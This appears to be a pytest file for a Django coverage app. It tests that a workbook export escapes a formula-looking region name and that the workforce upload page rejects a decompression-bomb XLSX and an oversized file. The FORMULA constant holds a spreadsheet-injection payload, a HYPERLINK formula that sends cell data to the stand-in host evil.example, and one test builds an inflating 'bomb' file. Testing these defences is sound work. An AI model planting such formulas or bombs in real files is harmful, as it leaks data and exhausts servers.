"""The coverage workbook writes a region name that looks like a formula as text; the workforce import page refuses
an XLSX that inflates beyond the limit and a file above the size limit, naming the file, and stores nothing."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from django.test import Client, override_settings
from openpyxl import load_workbook

from paritrana.coverage.models import WorkforceFigure, WorkforceUpload
from paritrana.registry.models import Region
from tests.core.xlsxkit import write_xlsx
from tests.coverage.coveragekit import DemoLike, coverage_users

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


@pytest.fixture
def users(demo_like: DemoLike) -> dict[str, Any]:
    return coverage_users()


def client_for(user: Any, language: str = "id") -> Client:
    client = Client()
    client.force_login(user)
    client.cookies["django_language"] = language
    return client


def test_the_coverage_workbook_writes_a_formula_name_as_text(users: dict[str, Any]) -> None:
    Region.objects.filter(code="33.74").update(name=FORMULA)
    response = client_for(users["branch"]).get("/coverage/export.xlsx?region=33&view=domicile")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    named = [c for c in cells if isinstance(c.value, str) and "evil.example" in c.value]
    assert named and all(c.value == "'" + FORMULA and c.data_type == "s" for c in named)
    assert not [c for c in cells if c.data_type == "f"]
    assert any(isinstance(c.value, int) and c.data_type == "n" for c in cells)  # numbers stay numbers


def post_figures(admin: Client, name: str, content: bytes) -> Any:
    f = io.BytesIO(content)
    f.name = name
    return admin.post(
        "/coverage/workforce/", {"year": "2024", "source": "BPS Sakernas Aug 2024", "kind": "official", "file": f}
    )


def test_the_workforce_import_refuses_an_inflating_xlsx(users: dict[str, Any], tmp_path: Path) -> None:
    admin = client_for(users["admin"])
    before = WorkforceFigure.objects.count()
    path = write_xlsx(tmp_path / "bomb.xlsx", (b"<row><c><v>1</v></c></row>" * 40_000 for _ in range(100)))
    page = post_figures(admin, "bps.xlsx", path.read_bytes()).content.decode()
    assert "berkas XLSX berisi lebih dari 64 MB setelah dibuka" in page
    assert WorkforceFigure.objects.count() == before
    assert WorkforceUpload.objects.get().status == "rejected"


@override_settings(UPLOAD_LIMITS={"max_bytes": 1024})
def test_the_workforce_import_refuses_a_file_above_the_size_limit(users: dict[str, Any]) -> None:
    admin = client_for(users["admin"])
    before = WorkforceFigure.objects.count()
    page = post_figures(admin, "bps.csv", b"region_code;employed\n" + b"33;20000000\n" * 200)
    assert page.status_code == 200
    assert "berkas lebih besar dari 1,024 B" in page.content.decode()
    assert WorkforceFigure.objects.count() == before and WorkforceUpload.objects.count() == 0
